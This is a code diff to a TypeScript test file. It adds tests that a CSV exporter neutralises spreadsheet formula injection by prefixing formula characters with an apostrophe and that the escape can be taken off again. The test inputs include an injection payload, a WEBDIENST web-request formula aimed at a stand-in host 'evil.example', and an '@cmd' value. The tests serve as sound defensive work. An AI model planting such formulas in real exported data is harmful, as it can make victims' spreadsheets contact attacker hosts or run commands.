@@ -1,12 +1,12 @@
 import { Readable } from 'node:stream';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { toCsv } from '@/lib/csv';
+import { toCsv, unescapeFormulas } from '@/lib/csv';
 import { customerKind } from '@/lib/customers/save-customers';
 import { type CellType, toColumns } from '@/lib/imports/columns';
 import { csvRows } from '@/lib/imports/csv-rows';
 import { linesOf, MAX_ROW } from '@/lib/imports/lines';
-import { readCell, unescapeFormula } from '@/lib/imports/read-cell';
+import { readCell } from '@/lib/imports/read-cell';
 import { readHeader } from '@/lib/imports/read-header';
 import { rejectedPath } from '@/lib/imports/rejected-file';
 import { rowTexts } from '@/lib/imports/row-texts';
@@ -162,9 +162,44 @@ describe('a cell', () => {
   });
 });
 
+const csvOf = async (text: string) => {
+  let csv = '';
+  for await (const part of toCsv(['n', 'text'], Readable.from([[{ n: 1, text }]]))) csv += part;
+  return csv.replace('\ufeff', '');
+};
+
+test.each([
+  ['=1+1', "'=1+1"],
+  ['x;=WEBDIENST("https://evil.example")', `x;'=WEBDIENST("https://evil.example")`],
+  ['x; \u00a0=1', "x;' \u00a0=1"],
+  ['x;"=1', `x;'"=1`],
+  ['x\t@cmd', "x\t'@cmd"],
+  ['x\n-1', "x\n'-1"],
+  ['x;+1;=2;y', "x;'+1;'=2;y"],
+  ["'=1", "''=1"],
+  ["x;'=1", "x;''=1"],
+  ['\t=1', "'\t'=1"],
+  ['\uff1d1', "'\uff1d1"],
+  ['a-b; c+d, =e', 'a-b; c+d, =e'],
+])('the text %j is written as %j and read as it was', async (text, written) => {
+  expect(await csvOf(text)).toBe(`"n","text"\r\n"1","${written.replaceAll('"', '""')}"\r\n`);
+  expect(unescapeFormulas(written)).toBe(text);
+});
+
+test('a spreadsheet that splits a file at semicolons finds no formula in it', async () => {
+  const unit = fc.constantFrom(...'a;="\'\t\n\r+-@ ,');
+  await fc.assert(
+    fc.asyncProperty(fc.string({ unit }), async (text) => {
+      const csv = await csvOf(text);
+      const cells = csv.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[ "]+/, ''));
+      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    }),
+  );
+});
+
 test('the escape of a formula is taken off once, and nothing else', () => {
-  const cells = ["'=a", "''=a", "'a", "'\uff1da", '=a'];
-  expect(cells.map(unescapeFormula)).toEqual(['=a', "'=a", "'a", '\uff1da', '=a']);
+  const cells = ["'=a", "''=a", "'a", "'\uff1da", '=a', "it;'s"];
+  expect(cells.map(unescapeFormulas)).toEqual(['=a', "'=a", "'a", '\uff1da', '=a', "it;'s"]);
 });
 
 test('the type of a cell and the meaning of an empty one come from its field', () => {
